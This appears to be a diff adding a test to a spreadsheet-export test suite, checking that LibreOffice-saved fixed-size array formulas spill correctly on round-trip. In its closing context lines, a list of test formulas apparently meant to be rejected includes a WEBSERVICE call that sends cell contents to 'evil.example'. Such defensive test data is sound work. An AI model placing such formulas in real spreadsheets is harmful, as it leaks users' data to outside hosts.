@@ -84,6 +84,26 @@ describe("what was changed since", () => {
   });
 });
 
+it("an array that LibreOffice saved with a fixed size fills as many cells as it needs again", () => {
+  const formula = '=A1:A2*INASTI.QUARTERLY(A1,"principal",2026)';
+  const cells = [
+    { row: 0, column: 0, value: 40_000 },
+    { row: 0, column: 1, formula, value: 5, spill: { rows: 2, columns: 1 } },
+    { row: 1, column: 1, value: 6, spilled: true },
+  ];
+  const given = write({ sheets: [{ name: "S", cells }] }, functions);
+  for (const form of ["classic", "named"] as const) {
+    const copy = copyOf(given, form);
+    const fixed = changed(copy, sheetPart, (xml) => xml.replace(' cm="1"', ""));
+    expect(fixed).not.toEqual(copy);
+    const { left, bytes } = backOf(fixed);
+    expect(left).toEqual([]);
+    const cell = (file: Uint8Array) => /<c r="B1"[^>]*><f[^>]*>/.exec(parts(file, sheetPart))?.[0];
+    expect(cell(fixed)).toBe('<c r="B1"><f t="array" ref="B1:B2">');
+    expect(cell(bytes)).toBe(cell(given));
+  }
+});
+
 it.each([
   'WEBSERVICE("http://evil.example/"&amp;A1)',
   'INDIRECT("Other!A1")+_xldudf_INASTI_QUARTERLY(A1,"principal",2026)',
